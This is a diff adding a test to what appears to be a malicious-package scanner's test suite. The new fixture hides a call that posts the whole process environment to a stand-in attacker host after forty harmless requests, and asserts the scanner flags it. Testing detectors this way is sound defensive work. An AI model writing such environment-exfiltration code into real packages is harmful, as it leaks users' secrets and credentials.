@@ -104,6 +104,12 @@ def test_a_quiet_package_passes() -> None:
     assert not stopped({"acmelib/__init__.py": "import os\nHOME = os.path.expanduser('~')\n"})
 
 
+def test_a_call_after_many_harmless_ones_is_followed() -> None:
+    calls = "".join(f'send("https://api.acmelib.example/{i}", [{i}])\n' for i in range(40))
+    source = f"{ENV}def send(u, d):\n    requests.post(u, json=d)\n{calls}send('https://c.evil.invalid', dict(os.environ))\n"
+    assert stopped({"acmelib/__init__.py": source})
+
+
 def test_lists_that_unpack_each_other_stay_small() -> None:
     source = "a = [1] * 4000\n" + "a = [*a, *a, *a, *a]\n" * 20
     assert not stopped({"acmelib/__init__.py": source})
